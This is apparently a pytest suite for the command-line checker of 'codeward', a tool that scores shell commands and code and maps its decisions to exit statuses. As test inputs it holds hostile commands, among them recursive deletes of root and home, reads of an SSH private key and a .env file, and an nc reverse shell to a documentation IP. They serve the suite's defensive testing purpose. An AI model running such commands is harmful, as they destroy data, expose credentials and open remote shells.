"""`codeward check` as a user meets it: verdicts, JSON, exit statuses and clear errors."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from codeward.adapters.cli import main

REQUIRED_DECISION_FIELDS = {
    "decision_id",
    "action",
    "risk",
    "reasons",
    "findings",
    "intent",
    "policy",
    "remedies",
    "latency_ms",
}
REQUIRED_FINDING_FIELDS = {
    "rule_id",
    "capability",
    "target",
    "severity",
    "confidence",
    "source",
    "lines",
    "evidence",
}


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as done:
        main(list(argv))
    out, err = capsys.readouterr()
    return int(done.value.code or 0), out, err


def test_json_output_is_exactly_one_decision_object(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "check", "-c", "ls -la", "--format", "json")
    decision = json.loads(out)
    assert set(decision) >= REQUIRED_DECISION_FIELDS
    assert set(decision["intent"]) >= {"name", "source", "authorized", "confidence", "evidence"}
    assert set(decision["policy"]) >= {"id", "version", "rule"}
    for finding in decision["findings"]:
        assert set(finding) >= REQUIRED_FINDING_FIELDS
    assert code == 0


def test_a_file_is_judged_in_generate_mode_and_a_command_in_execute_mode(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    script = tmp_path / "tool.py"
    script.write_text("print('hello')\n")
    _, out, _ = run(capsys, "check", str(script), "--format", "json")
    assert json.loads(out)["mode"] == "generate" and json.loads(out)["language"] == "python"
    _, out, _ = run(capsys, "check", "-c", "echo hi", "--format", "json")
    assert json.loads(out)["mode"] == "execute" and json.loads(out)["kind"] == "command"


def test_usage_errors_exit_2_with_a_message(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, err = run(capsys, "check")
    assert code == 2 and "exactly one of" in err
    code, _, err = run(capsys, "check", str(tmp_path / "missing.sh"))
    assert code == 2 and "no such file" in err and "Traceback" not in err
    code, _, err = run(capsys, "check", "-c", "ls", "--policy", str(tmp_path / "nope.yaml"))
    assert code == 2 and "no such policy file" in err


def test_an_invalid_policy_points_at_its_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    policy = tmp_path / "team.yaml"
    policy.write_text("codeward: 1\nid: team\nrules:\n  - id: x\n    action: sometimes\n")
    code, _, err = run(capsys, "policy", "lint", str(policy))
    assert code == 2 and f"{policy}:5:" in err


def test_cases_are_judged_in_order_with_their_ids(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    cases = tmp_path / "cases.jsonl"
    records = [
        {"id": "a", "kind": "command", "content": "ls", "mode": "execute"},
        {
            "id": "b",
            "kind": "code",
            "language": "python",
            "content": "print(1)",
            "mode": "generate",
            "context": {
                "declared_intent": "education",
                "roles": ["instructor"],
                "project": {"files": ["lessons/1.md"]},
            },
        },
    ]
    cases.write_text("\n".join(json.dumps(r) for r in records) + "\n")
    code, out, _ = run(capsys, "check", "--cases", str(cases), "--format", "json")
    lines = [json.loads(line) for line in out.splitlines()]
    assert [d["id"] for d in lines] == ["a", "b"]
    assert lines[1]["intent"]["name"] == "education" and lines[1]["intent"]["authorized"] is True
    assert code == 0


def test_a_bad_record_is_reported_and_the_rest_still_judged(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    cases = tmp_path / "cases.jsonl"
    cases.write_text('{"id": "ok", "content": "ls", "kind": "command"}\nnot json\n{"id": "x"}\n')
    code, out, _ = run(capsys, "check", "--cases", str(cases), "--format", "json")
    lines = [json.loads(line) for line in out.splitlines()]
    assert lines[0]["id"] == "ok" and "action" in lines[0]
    assert "invalid JSON" in lines[1]["error"] and "content" in lines[2]["error"]
    assert code == 2


def test_text_output_explains_the_decision(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "check", "-c", "ls", "--no-color")
    assert "Why" in out and "Intent" in out and "decision " in out


def test_roles_from_the_command_line_are_unverified(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(
        capsys,
        "check",
        "-c",
        "ls",
        "--role",
        "security-engineer",
        "--intent",
        "security_research",
        "--format",
        "json",
    )
    intent = json.loads(out)["intent"]
    assert intent["name"] == "security_research" and intent["authorized"] is False


def test_stdin_is_read_with_a_dash() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "codeward.adapters.cli", "check", "-", "--format", "json"],
        input=b"echo hello\n",
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["content_sha256"]


def test_undecodable_bytes_still_get_a_decision(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    blob = tmp_path / "blob.bin"
    blob.write_bytes(b"\xff\xfe\x00\x01rm -rf /\x00\x80")
    code, out, _ = run(capsys, "check", str(blob), "--format", "json")
    decision = json.loads(out)
    assert any(f["capability"] == "analysis.incomplete" for f in decision["findings"])
    assert code in (0, 3, 4)


# Exit statuses with the real analyzers and the built-in policy: 0 allow/notice, 3 confirm/review, 4 block.
# These snippets are only parsed: `--sandbox never` keeps them out of the sandbox too.
EXIT_STATUSES = [
    ("ls -la", 0),
    ("rm -rf ./build", 0),
    ("cat .env", 3),
    ("cat ~/.ssh/id_rsa", 3),
    ("rm -rf /", 4),
    ("nc -e /bin/sh 203.0.113.7 4444", 4),
]


@pytest.mark.parametrize(("command", "status"), EXIT_STATUSES)
def test_the_exit_status_follows_the_action(
    capsys: pytest.CaptureFixture[str], command: str, status: int
) -> None:
    code, out, _ = run(
        capsys, "check", "-c", command, "--lang", "bash", "--format", "json", "--sandbox", "never"
    )
    action = json.loads(out)["action"]
    assert code == status, action
    assert code == {"allow": 0, "notice": 0, "confirm": 3, "review": 3, "block": 4}[action]


def test_cases_exit_with_the_strongest_action_judged(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    cases = tmp_path / "cases.jsonl"
    records = [
        {"id": "fine", "kind": "command", "language": "bash", "content": "ls", "mode": "execute"},
        {"id": "wipe", "kind": "command", "language": "bash", "content": "rm -rf ~", "mode": "execute"},
        {"id": "shown", "kind": "command", "language": "bash", "content": "rm -rf ~", "mode": "generate"},
    ]
    cases.write_text("\n".join(json.dumps(r) for r in records) + "\n")
    code, out, _ = run(capsys, "check", "--cases", str(cases), "--format", "json", "--sandbox", "never")
    actions = {d["id"]: d["action"] for d in map(json.loads, out.splitlines())}
    assert actions == {"fine": "allow", "wipe": "block", "shown": "notice"}
    assert code == 4


def test_non_utf8_text_is_decided_on_what_it_says(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    script = tmp_path / "legacy.sh"
    script.write_bytes("echo 'café'\nrm -rf /\n".encode("latin-1"))
    code, out, err = run(
        capsys, "check", str(script), "--mode", "execute", "--format", "json", "--sandbox", "never"
    )
    decision = json.loads(out)
    rules = {f["rule_id"] for f in decision["findings"]}
    assert "engine.not-utf8" in rules and "bash.fs.recursive_delete" in rules
    assert code == 4 and "Traceback" not in err


def test_a_script_that_does_not_parse_is_still_read_line_by_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    script = tmp_path / "broken.sh"
    script.write_text('if then fi (((\n$((( "\n rm -rf / \n')
    code, out, err = run(
        capsys, "check", str(script), "--mode", "execute", "--format", "json", "--sandbox", "never"
    )
    findings = json.loads(out)["findings"]
    assert any(f["rule_id"] == "bash.analysis.partial" for f in findings)
    assert [f["lines"] for f in findings if f["rule_id"] == "bash.fs.recursive_delete"] == [[3]]
    assert code == 4 and "Traceback" not in err


def test_input_beyond_the_parse_limit_still_meets_the_pattern_tier(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    script = tmp_path / "huge.sh"
    script.write_text("echo hello world\n" * 600_000 + "rm -rf /\n")  # 10 MB
    code, out, err = run(
        capsys, "check", str(script), "--mode", "execute", "--format", "json", "--sandbox", "never"
    )
    findings = {f["rule_id"]: f for f in json.loads(out)["findings"]}
    assert "engine.too-large" in findings and findings["any.fs.delete_root"]["lines"] == [600_001]
    assert code == 4 and "Traceback" not in err


@pytest.mark.parametrize(
    ("mode", "action", "exit_code"), [("generate", "notice", 0), ("execute", "confirm", 3)]
)
def test_huge_harmless_input_is_decided_with_a_note_of_what_was_not_parsed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, mode: str, action: str, exit_code: int
) -> None:
    """Generated text that was only pattern-read gets a notice; running it is confirmed first."""
    script = tmp_path / "huge.py"
    script.write_text("print('hello')\n" * 700_000)
    code, out, _ = run(capsys, "check", str(script), "--mode", mode, "--format", "json", "--sandbox", "never")
    decision = json.loads(out)
    assert [f["rule_id"] for f in decision["findings"]] == ["engine.too-large"]
    assert decision["action"] == action and code == exit_code


def test_random_binary_gets_a_decision_not_a_traceback(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    blob = tmp_path / "random.bin"
    blob.write_bytes(bytes((n * 7919 + 13) % 256 for n in range(200_000)))
    code, out, err = run(
        capsys, "check", str(blob), "--lang", "bash", "--mode", "execute", "--format", "json"
    )
    decision = json.loads(out)
    assert any(f["capability"] == "analysis.incomplete" for f in decision["findings"])
    assert code in (0, 3, 4) and "Traceback" not in err
